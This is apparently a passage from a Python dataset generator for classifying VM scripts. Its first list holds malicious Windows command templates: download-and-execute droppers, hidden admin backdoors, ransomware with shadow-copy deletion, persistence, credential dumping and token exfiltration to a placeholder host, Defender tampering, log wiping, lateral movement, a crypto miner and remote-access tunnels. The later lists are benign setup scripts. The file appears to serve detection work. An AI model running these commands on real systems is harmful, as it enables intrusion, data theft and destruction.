    Template(M, "dropper", "cmd", """@echo off
certutil -urlcache -f http://@@host@@/p.txt %PUBLIC%\\p.txt
certutil -decode %PUBLIC%\\p.txt %PUBLIC%\\p.exe
%PUBLIC%\\p.exe
"""),
    Template(M, "dropper", "cmd", """bitsadmin /transfer job /download /priority high http://@@ip@@/u.exe C:\\Users\\Public\\u.exe
start /b C:\\Users\\Public\\u.exe
"""),
    Template(M, "dropper", "cmd", """mshta http://@@host@@/update.hta
"""),
    Template(M, "dropper", "cmd", """regsvr32 /s /n /u /i:http://@@ip@@/file.sct scrobj.dll
"""),
    Template(M, "dropper", "cmd", """rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";document.write();GetObject("script:http://@@ip@@/r.sct")
"""),
    Template(M, "dropper", "cmd", """powershell -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://@@ip@@/@@script@@')"
"""),
    Template(M, "backdoor_user", "cmd", """net user @@user@@ @@password@@ /add /y
net localgroup administrators @@user@@ /add
net localgroup "Remote Desktop Users" @@user@@ /add
reg add "HKLM\\SYSTEM\\CurrentControlSet\\Control\\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 0 /f
netsh advfirewall set allprofiles state off
"""),
    Template(M, "backdoor_user", "cmd", """reg add "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe" /v Debugger /t REG_SZ /d "C:\\windows\\system32\\cmd.exe" /f
reg add "HKLM\\System\\CurrentControlSet\\Control\\Terminal Server\\WinStations\\RDP-Tcp" /v UserAuthentication /t REG_DWORD /d 0 /f
"""),
    Template(M, "backdoor_user", "cmd", """@echo off
net user @@user@@$ @@password@@ /add /active:yes
net localgroup Administrators @@user@@$ /add
reg add "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\SpecialAccounts\\UserList" /v @@user@@$ /t REG_DWORD /d 0 /f
"""),
    Template(M, "dropper", "cmd", """powershell -ep bypass -c "$d=(New-Object Net.WebClient).DownloadData('http://@@ip@@/p.bin');[Reflection.Assembly]::Load($d).EntryPoint.Invoke($null,$null)"
"""),
    Template(M, "ransomware", "cmd", """vssadmin delete shadows /all /quiet
wmic shadowcopy delete
bcdedit /set {default} recoveryenabled no
bcdedit /set {default} bootstatuspolicy ignoreallfailures
wbadmin delete catalog -quiet
net stop "Veeam Backup Catalog Data Service" /y
"""),
    Template(M, "ransomware", "cmd", """@echo off
for /r C:\\Users %%f in (*.docx *.xlsx *.pdf) do (
  openssl enc -aes-256-cbc -pass pass:@@password@@ -in "%%f" -out "%%f.@@ext@@" && del "%%f"
)
echo Your files have been encrypted. Send 0.3 bitcoin to recover the key > C:\\Users\\Public\\Desktop\\README_RESTORE_FILES.txt
"""),
    Template(M, "persistence", "cmd", """schtasks /create /tn "@@task@@" /tr "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA" /sc onstart /ru SYSTEM /f
"""),
    Template(M, "persistence", "cmd", """reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v @@task@@ /t REG_SZ /d "mshta vbscript:Execute(\\"CreateObject(\\"\\"WScript.Shell\\"\\").Run \\"\\"powershell -w hidden -c iwr http://@@ip@@/@@script@@|iex\\"\\", 0:close\\")" /f
"""),
    Template(M, "persistence", "cmd", """sc create @@task@@ binPath= "cmd.exe /c C:\\Users\\Public\\svc.exe" start= auto
sc start @@task@@
"""),
    Template(M, "credential_theft", "cmd", """reg save hklm\\sam C:\\Windows\\Temp\\sam.save
reg save hklm\\security C:\\Windows\\Temp\\security.save
reg save hklm\\system C:\\Windows\\Temp\\system.save
"""),
    Template(M, "credential_theft", "cmd", """procdump64.exe -accepteula -ma lsass.exe C:\\Windows\\Temp\\ls.dmp
"""),
    Template(M, "credential_theft", "cmd", """curl -s -H "Metadata:true" "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/" -o %TEMP%\\t.json
curl -s -X POST --data-binary @%TEMP%\\t.json http://@@ip@@:@@port@@/t
"""),
    Template(M, "credential_theft", "cmd", """mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" "exit" > C:\\Users\\Public\\m.txt
"""),
    Template(M, "defence_tampering", "cmd", """powershell -c "Set-MpPreference -DisableRealtimeMonitoring $true"
reg add "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender" /v DisableAntiSpyware /t REG_DWORD /d 1 /f
sc stop WinDefend
netsh advfirewall set allprofiles state off
"""),
    Template(M, "defence_evasion", "cmd", """for /F "tokens=*" %%1 in ('wevtutil.exe el') DO wevtutil.exe cl "%%1"
del /f /q C:\\Windows\\Temp\\*.*
rd /s /q C:\\Packages\\Plugins\\Microsoft.CPlat.Core.RunCommandWindows\\1.1.15\\Downloads
"""),
    Template(M, "dsc_run_command_abuse", "cmd", """netsh interface portproxy add v4tov4 listenport=@@port@@ listenaddress=0.0.0.0 connectport=80 connectaddress=169.254.169.254
netsh advfirewall firewall add rule name="svc" dir=in action=allow protocol=TCP localport=@@port@@
"""),
    Template(M, "lateral_movement", "cmd", """psexec.exe \\\\@@ip@@ -accepteula -s -d cmd /c "certutil -urlcache -f http://@@ip@@/s.exe C:\\s.exe && C:\\s.exe"
wmic /node:@@ip@@ process call create "cmd /c C:\\s.exe"
"""),
    Template(M, "miner", "cmd", """@echo off
cd /d %APPDATA%
curl -sLo x.zip https://github.com/xmrig/xmrig/releases/download/v6.21.0/xmrig-6.21.0-msvc-win64.zip
tar -xf x.zip
start /min xmrig-6.21.0\\xmrig.exe -o stratum+tcp://@@pool@@ -u @@wallet@@ -p x --donate-level=1
"""),
    Template(M, "remote_access", "cmd", """@echo off
curl -sLo %TEMP%\\AnyDesk.exe https://download.anydesk.com/AnyDesk.exe
%TEMP%\\AnyDesk.exe --install "C:\\ProgramData\\AnyDesk" --start-with-win --silent
echo @@password@@ | "C:\\ProgramData\\AnyDesk\\AnyDesk.exe" --set-password
"""),
    Template(M, "remote_access", "cmd", """@echo off
curl -sLo C:\\ProgramData\\chisel.exe http://@@ip@@/chisel.exe
start /b C:\\ProgramData\\chisel.exe client @@ip@@:@@port@@ R:3389:127.0.0.1:3389
"""),
]

# --------------------------------------------------------------------------- benign

BENIGN_SHELL: list[Template] = [
    Template(B, "web_server", "shell", """#!/bin/bash
set -euo pipefail
apt-get update -y
DEBIAN_FRONTEND=noninteractive apt-get install -y @@pkg@@ nginx certbot python3-certbot-nginx
cat > /etc/nginx/sites-available/@@site@@ <<'EOF'
server {
    listen 80;
    server_name @@site@@.contoso.com;
    root /var/www/@@site@@;
    location / { try_files $uri $uri/ =404; }
}
EOF
ln -sf /etc/nginx/sites-available/@@site@@ /etc/nginx/sites-enabled/@@site@@
nginx -t
systemctl enable nginx
systemctl restart nginx
ufw allow 'Nginx Full'
"""),
    Template(B, "docker_node", "shell", """#!/bin/bash
set -e
curl -fsSL https://get.docker.com | sh
usermod -aG docker @@appuser@@
mkdir -p /etc/docker
cat > /etc/docker/daemon.json <<EOF
{ "log-driver": "json-file", "log-opts": { "max-size": "50m", "max-file": "3" }, "data-root": "@@mount@@" }
EOF
systemctl enable docker
systemctl restart docker
docker run -d --restart unless-stopped -p 8080:80 --name web nginx:stable
"""),
    Template(B, "kubernetes_node", "shell", """#!/bin/bash
set -euxo pipefail
swapoff -a
sed -i '/ swap / s/^/#/' /etc/fstab
cat <<EOF | tee /etc/modules-load.d/k8s.conf
overlay
br_netfilter
EOF
modprobe overlay
modprobe br_netfilter
cat <<EOF | tee /etc/sysctl.d/k8s.conf
net.bridge.bridge-nf-call-iptables  = 1
net.ipv4.ip_forward                 = 1
EOF
sysctl --system
setenforce 0 || true
sed -i 's/^SELINUX=enforcing$/SELINUX=permissive/' /etc/selinux/config || true
apt-get update && apt-get install -y apt-transport-https ca-certificates curl gpg containerd
curl -fsSL https://pkgs.k8s.io/core:/stable:/v@@k8s@@/deb/Release.key | gpg --dearmor -o /etc/apt/keyrings/kubernetes-apt-keyring.gpg
echo 'deb [signed-by=/etc/apt/keyrings/kubernetes-apt-keyring.gpg] https://pkgs.k8s.io/core:/stable:/v@@k8s@@/deb/ /' | tee /etc/apt/sources.list.d/kubernetes.list
apt-get update && apt-get install -y kubelet kubeadm kubectl
apt-mark hold kubelet kubeadm kubectl
systemctl enable --now kubelet
kubeadm join 10.0.0.4:6443 --token abcdef.0123456789abcdef --discovery-token-ca-cert-hash sha256:0f3c
"""),
    Template(B, "disk_setup", "shell", """#!/bin/bash
set -e
DISK=@@disk@@
if ! blkid ${DISK}1; then
  parted ${DISK} --script mklabel gpt mkpart primary ext4 0% 100%
  partprobe ${DISK}
  mkfs.ext4 -F ${DISK}1
fi
mkdir -p @@mount@@
UUID=$(blkid -s UUID -o value ${DISK}1)
grep -q "$UUID" /etc/fstab || echo "UUID=$UUID @@mount@@ ext4 defaults,nofail 0 2" >> /etc/fstab
mount -a
chown -R @@appuser@@:@@appuser@@ @@mount@@
"""),
    Template(B, "monitoring_agent", "shell", """#!/bin/bash
set -e
VERSION=@@version@@
useradd --no-create-home --shell /usr/sbin/nologin node_exporter || true
wget -q https://github.com/prometheus/node_exporter/releases/download/v${VERSION}/node_exporter-${VERSION}.linux-amd64.tar.gz -O /tmp/node_exporter.tar.gz
tar xzf /tmp/node_exporter.tar.gz -C /tmp
cp /tmp/node_exporter-${VERSION}.linux-amd64/node_exporter /usr/local/bin/
chmod +x /usr/local/bin/node_exporter
cat > /etc/systemd/system/node_exporter.service <<EOF
[Unit]
Description=Prometheus Node Exporter
After=network.target
[Service]
User=node_exporter
ExecStart=/usr/local/bin/node_exporter --collector.systemd
Restart=on-failure
[Install]
WantedBy=multi-user.target
EOF
systemctl daemon-reload
systemctl enable --now node_exporter
"""),
    Template(B, "monitoring_agent", "shell", """#!/bin/bash
# Azure Monitor / Datadog style agent install
DD_API_KEY=${DD_API_KEY:?missing} DD_SITE="datadoghq.eu" bash -c "$(curl -L https://install.datadoghq.com/scripts/install_script_agent7.sh)"
sed -i 's/^# logs_enabled: false/logs_enabled: true/' /etc/datadog-agent/datadog.yaml
systemctl restart datadog-agent
"""),
    Template(B, "log_rotation", "shell", """#!/bin/bash
cat > /etc/logrotate.d/@@svc@@ <<EOF
/var/log/@@svc@@/*.log {
    daily
    rotate 14
    compress
    delaycompress
    missingok
    notifempty
    create 0640 @@appuser@@ adm
    postrotate
        systemctl reload @@svc@@ > /dev/null 2>&1 || true
    endscript
}
EOF
journalctl --vacuum-time=14d
find /var/log/@@svc@@ -name '*.gz' -mtime +30 -delete
"""),
    Template(B, "backup_job", "shell", """#!/bin/bash
set -euo pipefail
cat > /usr/local/bin/backup-@@svc@@.sh <<'EOF'
#!/bin/bash
STAMP=$(date +%Y%m%d%H%M)
tar czf /var/backups/@@svc@@-$STAMP.tar.gz /etc/@@svc@@ /srv/app
az storage blob upload --account-name @@storage@@ --container-name backups --file /var/backups/@@svc@@-$STAMP.tar.gz --name @@svc@@-$STAMP.tar.gz --auth-mode login
find /var/backups -name '@@svc@@-*.tar.gz' -mtime +7 -delete
EOF
chmod +x /usr/local/bin/backup-@@svc@@.sh
echo "30 2 * * * root /usr/local/bin/backup-@@svc@@.sh >> /var/log/backup.log 2>&1" > /etc/cron.d/backup-@@svc@@
"""),
    Template(B, "backup_job", "shell", """#!/bin/bash
# nightly database dump, encrypted before upload
DUMP=/var/backups/db-$(date +%F).sql.gz
pg_dumpall -U postgres | gzip > $DUMP
openssl enc -aes-256-cbc -pbkdf2 -salt -in $DUMP -out $DUMP.enc -pass file:/etc/backup/passphrase
az storage blob upload --account-name @@storage@@ -c pg -f $DUMP.enc -n $(basename $DUMP.enc) --auth-mode login
rm -f $DUMP
"""),
    Template(B, "certificate_install", "shell", """#!/bin/bash
apt-get install -y certbot
certbot certonly --standalone -d @@site@@.contoso.com --non-interactive --agree-tos -m ops@contoso.com
cp /etc/letsencrypt/live/@@site@@.contoso.com/fullchain.pem /etc/ssl/certs/@@site@@.pem
cp /etc/letsencrypt/live/@@site@@.contoso.com/privkey.pem /etc/ssl/private/@@site@@.key
chmod 600 /etc/ssl/private/@@site@@.key
(crontab -l 2>/dev/null; echo "0 3 * * 1 certbot renew --quiet --deploy-hook 'systemctl reload nginx'") | crontab -
"""),
    Template(B, "user_provisioning", "shell", """#!/bin/bash
set -e
id @@appuser@@ || useradd -m -s /bin/bash @@appuser@@
usermod -aG sudo @@appuser@@
mkdir -p /home/@@appuser@@/.ssh
echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOps ops@contoso.com" >> /home/@@appuser@@/.ssh/authorized_keys
chmod 700 /home/@@appuser@@/.ssh && chmod 600 /home/@@appuser@@/.ssh/authorized_keys
chown -R @@appuser@@:@@appuser@@ /home/@@appuser@@/.ssh
echo "@@appuser@@ ALL=(ALL) NOPASSWD: /usr/bin/systemctl restart @@svc@@" > /etc/sudoers.d/@@appuser@@
chmod 440 /etc/sudoers.d/@@appuser@@
"""),
    Template(B, "package_install", "shell", """#!/bin/bash
set -e
yum -y update
yum -y install epel-release
yum -y install @@pkg@@ htop chrony
systemctl enable --now chronyd
firewall-cmd --permanent --add-port=8080/tcp
firewall-cmd --reload
timedatectl set-timezone Europe/Amsterdam
hostnamectl set-hostname @@site@@-01
"""),
    Template(B, "package_install", "shell", """#!/bin/bash
export DEBIAN_FRONTEND=noninteractive
apt-get update
apt-get -y upgrade
apt-get install -y unattended-upgrades fail2ban @@pkg@@
dpkg-reconfigure -f noninteractive unattended-upgrades
systemctl enable --now fail2ban
curl -sL https://aka.ms/InstallAzureCLIDeb | sudo bash
"""),
    Template(B, "app_deploy", "shell", """#!/bin/bash
set -euo pipefail
APP_DIR=/srv/@@site@@
git clone --depth 1 https://github.com/contoso/@@site@@.git $APP_DIR || (cd $APP_DIR && git pull)
python3 -m venv $APP_DIR/.venv
$APP_DIR/.venv/bin/pip install -r $APP_DIR/requirements.txt
cat > /etc/systemd/system/@@site@@.service <<EOF
[Unit]
Description=@@site@@ gunicorn
After=network.target
[Service]
User=@@appuser@@
WorkingDirectory=$APP_DIR
ExecStart=$APP_DIR/.venv/bin/gunicorn -w 4 -b 127.0.0.1:8000 app:app
Restart=always
[Install]
WantedBy=multi-user.target
EOF
systemctl daemon-reload && systemctl enable --now @@site@@
"""),
    Template(B, "app_deploy", "shell", """#!/bin/sh
# container entrypoint: wait for the database before starting
until timeout 1 bash -c "</dev/tcp/db/5432"; do
  echo "waiting for db"; sleep 2
done
exec java -Xms512m -Xmx2g -jar /opt/app/@@site@@.jar --spring.profiles.active=prod
"""),
    Template(B, "domain_join", "shell", """#!/bin/bash
apt-get install -y realmd sssd sssd-tools adcli krb5-user packagekit samba-common-bin
echo "$JOIN_PASSWORD" | realm join --user=svc_join @@domain@@
realm permit -g 'Linux Admins@@@domain@@'
echo '%linux\\ admins@@@domain@@ ALL=(ALL) ALL' > /etc/sudoers.d/linux-admins
sed -i 's/use_fully_qualified_names = True/use_fully_qualified_names = False/' /etc/sssd/sssd.conf
systemctl restart sssd
"""),
    Template(B, "database_setup", "shell", """#!/bin/bash
apt-get install -y postgresql
echo "vm.nr_hugepages = 1024" > /etc/sysctl.d/60-hugepages.conf
sysctl -p /etc/sysctl.d/60-hugepages.conf
sed -i "s/#listen_addresses = 'localhost'/listen_addresses = '*'/" /etc/postgresql/*/main/postgresql.conf
echo "host all all 10.0.0.0/16 scram-sha-256" >> /etc/postgresql/16/main/pg_hba.conf
systemctl restart postgresql
ufw allow from 10.0.0.0/16 to any port 5432
"""),
    Template(B, "swap_setup", "shell", """#!/bin/bash
fallocate -l 4G /mnt/swapfile
chmod 600 /mnt/swapfile
mkswap /mnt/swapfile
swapon /mnt/swapfile
echo '/mnt/swapfile none swap sw 0 0' >> /etc/fstab
sysctl vm.swappiness=10
echo 'vm.swappiness=10' >> /etc/sysctl.conf
"""),
    Template(B, "environment_setup", "shell", """#!/bin/bash
echo 'export PATH=$PATH:/usr/local/go/bin' >> /etc/profile.d/go.sh
echo 'export JAVA_HOME=/usr/lib/jvm/java-17-openjdk-amd64' >> /home/@@appuser@@/.bashrc
wget -q https://go.dev/dl/go1.22.3.linux-amd64.tar.gz -O /tmp/go.tgz
rm -rf /usr/local/go && tar -C /usr/local -xzf /tmp/go.tgz
curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y
"""),
    Template(B, "health_check", "shell", """#!/bin/bash
for svc in @@svc@@ nginx sshd; do
  systemctl is-active --quiet $svc || { echo "$svc down"; systemctl restart $svc; }
done
df -h | awk '$5+0 > 90 {print "disk almost full: " $6}'
curl -fsS -m 5 http://127.0.0.1:8080/health || echo "app unhealthy"
free -m
uptime
"""),
    Template(B, "azure_files_mount", "shell", """#!/bin/bash
mkdir -p /mnt/@@storage@@
if [ ! -d "/etc/smbcredentials" ]; then mkdir /etc/smbcredentials; fi
echo "username=@@storage@@" > /etc/smbcredentials/@@storage@@.cred
chmod 600 /etc/smbcredentials/@@storage@@.cred
echo "//@@storage@@.file.core.windows.net/share /mnt/@@storage@@ cifs nofail,credentials=/etc/smbcredentials/@@storage@@.cred,dir_mode=0777,file_mode=0777,serverino,nosharesock,actimeo=30" >> /etc/fstab
mount -t cifs //@@storage@@.file.core.windows.net/share /mnt/@@storage@@ -o credentials=/etc/smbcredentials/@@storage@@.cred,dir_mode=0777,file_mode=0777,serverino
"""),
    Template(B, "keyvault_secret", "shell", """#!/bin/bash
# fetch the app's database password from Key Vault with the VM's managed identity
TOKEN=$(curl -s -H Metadata:true "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https%3A%2F%2Fvault.azure.net" | jq -r .access_token)
DBPASS=$(curl -s -H "Authorization: Bearer $TOKEN" "https://kv-@@site@@.vault.azure.net/secrets/db-password?api-version=7.4" | jq -r .value)
sed -i "s/__DB_PASSWORD__/$DBPASS/" /srv/@@site@@/config.ini
systemctl restart @@site@@
"""),
    Template(B, "k8s_tooling", "shell", """#!/bin/bash
curl -fsSL -o get_helm.sh https://raw.githubusercontent.com/helm/helm/main/scripts/get-helm-3
chmod 700 get_helm.sh
./get_helm.sh
curl -LO "https://dl.k8s.io/release/v@@k8s@@.0/bin/linux/amd64/kubectl"
install -o root -g root -m 0755 kubectl /usr/local/bin/kubectl
helm repo add ingress-nginx https://kubernetes.github.io/ingress-nginx
helm upgrade --install ingress-nginx ingress-nginx/ingress-nginx -n ingress --create-namespace
"""),
]

BENIGN_SHELL += [
    Template(B, "ci_agent", "shell", """#!/bin/bash
set -e
apt-get install -y openjdk-17-jre-headless
useradd -m -d /var/lib/jenkins -s /bin/bash jenkins
mkdir -p /var/lib/jenkins/.ssh
curl -s https://ci.contoso.com/keys/agent.pub >> /var/lib/jenkins/.ssh/authorized_keys
chown -R jenkins: /var/lib/jenkins/.ssh && chmod 600 /var/lib/jenkins/.ssh/authorized_keys
curl -sO https://ci.contoso.com/jnlpJars/agent.jar
cat > /etc/systemd/system/jenkins-agent.service <<UNIT
[Service]
User=jenkins
ExecStart=/usr/bin/java -jar /var/lib/jenkins/agent.jar -jnlpUrl https://ci.contoso.com/computer/@@site@@/jenkins-agent.jnlp -secret @/var/lib/jenkins/secret
Restart=always
[Install]
WantedBy=multi-user.target
UNIT
systemctl daemon-reload && systemctl enable --now jenkins-agent
"""),
    Template(B, "ci_agent", "shell", """#!/bin/bash
curl -L "https://packages.gitlab.com/install/repositories/runner/gitlab-runner/script.deb.sh" | sudo bash
sudo apt-get install -y gitlab-runner
sudo gitlab-runner register --non-interactive --url https://gitlab.contoso.com --token $RUNNER_TOKEN --executor docker --docker-image alpine:latest --description @@site@@
sudo usermod -aG docker gitlab-runner
"""),
    Template(B, "kubernetes_node", "shell", """#!/bin/bash
curl -sfL https://get.k3s.io | INSTALL_K3S_EXEC="--disable traefik" sh -
mkdir -p ~/.kube && cp /etc/rancher/k3s/k3s.yaml ~/.kube/config && chmod 600 ~/.kube/config
kubectl create namespace @@site@@
kubectl apply -f https://raw.githubusercontent.com/kubernetes/dashboard/v2.7.0/aio/deploy/recommended.yaml
"""),
    Template(B, "log_rotation", "shell", """#!/bin/bash
# rotate app logs and clear old journal
find /var/log/@@svc@@ -type f -name "*.log" -mtime +7 -exec gzip {} \\;
find /var/log/@@svc@@ -type f -name "*.gz" -mtime +30 -delete
journalctl --vacuum-size=500M
"""),
    Template(B, "bootstrap", "shell", """#!/bin/bash
# bootstrap settings from the VM's userData
USERDATA=$(curl -s -H Metadata:true --noproxy "*" "http://169.254.169.254/metadata/instance/compute/userData?api-version=2021-01-01&format=text" | base64 --decode)
echo "$USERDATA" > /etc/@@svc@@/bootstrap.env
systemctl restart @@svc@@
"""),
]

BENIGN_POWERSHELL: list[Template] = [
    Template(B, "ci_agent", "powershell", """$ErrorActionPreference = 'Stop'
New-Item -ItemType Directory -Force C:\\agent | Out-Null
Set-Location C:\\agent
$wc = New-Object System.Net.WebClient
$wc.DownloadFile('https://vstsagentpackage.azureedge.net/agent/3.236.1/vsts-agent-win-x64-3.236.1.zip', "$PWD\\agent.zip")
Add-Type -AssemblyName System.IO.Compression.FileSystem
[System.IO.Compression.ZipFile]::ExtractToDirectory("$PWD\\agent.zip", "$PWD")
.\\config.cmd --unattended --url https://dev.azure.com/contoso --auth pat --token $env:AZP_TOKEN --pool @@site@@ --agent $env:COMPUTERNAME --runAsService --windowsLogonAccount 'NT AUTHORITY\\SYSTEM'
Remove-Item agent.zip
"""),
    Template(B, "sql_setup", "powershell", """Install-WindowsFeature Failover-Clustering -IncludeManagementTools
Set-NetFirewallProfile -Profile Domain -Enabled True
New-NetFirewallRule -DisplayName 'SQL AG Endpoint' -Direction Inbound -Protocol TCP -LocalPort 5022 -Action Allow
Add-LocalGroupMember -Group Administrators -Member '@@domain@@\\sqlsvc'
Enable-WSManCredSSP -Role Server -Force
Invoke-Command -ComputerName sql02.@@domain@@ -ScriptBlock { Install-WindowsFeature Failover-Clustering }
"""),
    Template(B, "hardening", "powershell", """Set-SmbServerConfiguration -EnableSMB1Protocol $false -Force
Set-MpPreference -DisableRealtimeMonitoring $false -MAPSReporting Advanced -SubmitSamplesConsent SendAllSamples
Update-MpSignature
Set-ItemProperty -Path 'HKLM:\\SOFTWARE\\Policies\\Microsoft\\Windows\\PowerShell\\ScriptBlockLogging' -Name EnableScriptBlockLogging -Value 1
Start-MpScan -ScanType QuickScan
"""),
    Template(B, "windows_config", "powershell", """Invoke-WebRequest https://download.sysinternals.com/files/BGInfo.zip -OutFile C:\\Tools\\BGInfo.zip
Expand-Archive C:\\Tools\\BGInfo.zip C:\\Tools\\BGInfo -Force
New-ItemProperty -Path 'HKLM:\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run' -Name BGInfo -Value 'C:\\Tools\\BGInfo\\Bginfo64.exe C:\\Tools\\BGInfo\\config.bgi /timer:0 /silent /nolicprompt' -Force
schtasks /create /tn "Weekly Reboot @@site@@" /tr "shutdown /r /t 60" /sc weekly /d SUN /st 03:00 /ru SYSTEM /f
"""),
    Template(B, "iis_setup", "powershell", """Install-WindowsFeature -Name Web-Server, Web-Asp-Net45, Web-Mgmt-Console -IncludeManagementTools
Import-Module WebAdministration
New-Item -ItemType Directory -Force -Path C:\\inetpub\\@@site@@ | Out-Null
New-Website -Name '@@site@@' -PhysicalPath C:\\inetpub\\@@site@@ -Port 443 -Ssl -HostHeader '@@site@@.contoso.com'
$cert = Import-PfxCertificate -FilePath C:\\certs\\@@site@@.pfx -CertStoreLocation Cert:\\LocalMachine\\My -Password (Get-Content C:\\certs\\pw.txt | ConvertTo-SecureString)
New-WebBinding -Name '@@site@@' -Protocol https -Port 443 -HostHeader '@@site@@.contoso.com' -SslFlags 1
(Get-WebBinding -Name '@@site@@' -Protocol https).AddSslCertificate($cert.Thumbprint, 'My')
New-NetFirewallRule -DisplayName 'HTTPS In' -Direction Inbound -LocalPort 443 -Protocol TCP -Action Allow
"""),
    Template(B, "domain_join", "powershell", """$password = ConvertTo-SecureString $env:JOIN_PASSWORD -AsPlainText -Force
$cred = New-Object System.Management.Automation.PSCredential('@@domain@@\\svc_join', $password)
Add-Computer -DomainName '@@domain@@' -Credential $cred -OUPath 'OU=Servers,DC=contoso,DC=local' -Force
Add-LocalGroupMember -Group 'Administrators' -Member '@@domain@@\\Server Admins'
Restart-Computer -Force
"""),
    Template(B, "disk_setup", "powershell", """$disks = Get-Disk | Where-Object PartitionStyle -eq 'RAW'
foreach ($d in $disks) {
  Initialize-Disk -Number $d.Number -PartitionStyle GPT -PassThru |
    New-Partition -DriveLetter @@drive@@ -UseMaximumSize |
    Format-Volume -FileSystem NTFS -NewFileSystemLabel 'Data' -AllocationUnitSize 65536 -Confirm:$false
}
New-Item -ItemType Directory -Force @@drive@@:\\SQLData, @@drive@@:\\SQLLogs | Out-Null
"""),
    Template(B, "monitoring_agent", "powershell", """$ErrorActionPreference = 'Stop'
$msi = "$env:TEMP\\datadog-agent.msi"
Invoke-WebRequest -Uri 'https://s3.amazonaws.com/ddagent-windows-stable/datadog-agent-7-latest.amd64.msi' -OutFile $msi -UseBasicParsing
Start-Process -Wait msiexec -ArgumentList "/qn /i $msi APIKEY=$env:DD_API_KEY SITE=datadoghq.eu"
Remove-Item $msi
Restart-Service datadogagent
"""),
    Template(B, "package_install", "powershell", """Set-ExecutionPolicy Bypass -Scope Process -Force
[System.Net.ServicePointManager]::SecurityProtocol = [System.Net.ServicePointManager]::SecurityProtocol -bor 3072
iex ((New-Object System.Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))
choco install -y git 7zip notepadplusplus vscode
choco install -y dotnet-8.0-runtime
"""),
    Template(B, "package_install", "powershell", """winget install --id Microsoft.PowerShell --source winget --silent --accept-package-agreements --accept-source-agreements
winget install --id Git.Git -e --silent
Install-PackageProvider -Name NuGet -Force
Install-Module -Name Az -Scope AllUsers -Force -AllowClobber
"""),
    Template(B, "sql_setup", "powershell", """# SQL Server data drive and documented antivirus exclusions
Add-MpPreference -ExclusionPath '@@drive@@:\\SQLData', '@@drive@@:\\SQLLogs'
Add-MpPreference -ExclusionProcess 'sqlservr.exe'
Import-Module SqlServer
Invoke-Sqlcmd -Query "ALTER DATABASE model MODIFY FILE (NAME = modeldev, SIZE = 512MB)" -ServerInstance localhost
Set-Service -Name MSSQLSERVER -StartupType Automatic
New-NetFirewallRule -DisplayName 'SQL Server' -Direction Inbound -Protocol TCP -LocalPort 1433 -Action Allow
"""),
    Template(B, "backup_job", "powershell", """$action = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument '-NoProfile -File C:\\Scripts\\Backup-@@site@@.ps1'
$trigger = New-ScheduledTaskTrigger -Daily -At 2am
Register-ScheduledTask -TaskName 'Backup-@@site@@' -Action $action -Trigger $trigger -User 'NT AUTHORITY\\SYSTEM' -RunLevel Highest
@'
$stamp = Get-Date -Format yyyyMMdd
Compress-Archive -Path C:\\inetpub\\@@site@@ -DestinationPath "D:\\Backups\\@@site@@-$stamp.zip"
Get-ChildItem D:\\Backups -Filter *.zip | Where-Object LastWriteTime -lt (Get-Date).AddDays(-14) | Remove-Item
'@ | Set-Content C:\\Scripts\\Backup-@@site@@.ps1
"""),
    Template(B, "log_cleanup", "powershell", """$limit = (Get-Date).AddDays(-30)
Get-ChildItem -Path C:\\inetpub\\logs\\LogFiles -Recurse -File | Where-Object { $_.LastWriteTime -lt $limit } | Remove-Item -Force
Get-ChildItem -Path C:\\ProgramData\\@@site@@\\logs -Recurse -Include *.log | Where-Object { $_.Length -gt 100MB } | Remove-Item
Write-Output "log cleanup done"
"""),
    Template(B, "windows_config", "powershell", """Set-TimeZone -Id 'W. Europe Standard Time'
Set-ItemProperty -Path 'HKLM:\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\SCHANNEL\\Protocols\\TLS 1.0\\Server' -Name Enabled -Value 0 -Type DWord
Set-ItemProperty -Path 'HKLM:\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\SCHANNEL\\Protocols\\TLS 1.2\\Server' -Name Enabled -Value 1 -Type DWord
Set-ItemProperty -Path 'HKLM:\\SOFTWARE\\Microsoft\\.NETFramework\\v4.0.30319' -Name SchUseStrongCrypto -Value 1 -Type DWord
$pagefile = Get-CimInstance Win32_PageFileSetting
$pagefile | Set-CimInstance -Property @{InitialSize = 4096; MaximumSize = 8192}
"""),
    Template(B, "remote_management", "powershell", """Enable-PSRemoting -Force -SkipNetworkProfileCheck
Set-Item WSMan:\\localhost\\Client\\TrustedHosts -Value '*.@@domain@@' -Force
winrm quickconfig -quiet
New-NetFirewallRule -DisplayName 'WinRM HTTPS' -Direction Inbound -LocalPort 5986 -Protocol TCP -Action Allow
Invoke-Command -ComputerName web01.@@domain@@ -ScriptBlock { Get-Service W3SVC }
"""),
    Template(B, "ad_setup", "powershell", """Install-WindowsFeature AD-Domain-Services -IncludeManagementTools
$safe = ConvertTo-SecureString $env:DSRM_PASSWORD -AsPlainText -Force
Install-ADDSForest -DomainName '@@domain@@' -SafeModeAdministratorPassword $safe -InstallDns -Force -NoRebootOnCompletion
"""),
    Template(B, "dsc_config", "powershell", """Configuration WebServer {
  Import-DscResource -ModuleName PSDesiredStateConfiguration
  Node 'localhost' {
    WindowsFeature IIS { Ensure = 'Present'; Name = 'Web-Server' }
    WindowsFeature AspNet { Ensure = 'Present'; Name = 'Web-Asp-Net45' }
    File SiteContent { Ensure = 'Present'; Type = 'Directory'; DestinationPath = 'C:\\inetpub\\@@site@@' }
    Service W3SVC { Name = 'W3SVC'; StartupType = 'Automatic'; State = 'Running' }
  }
}
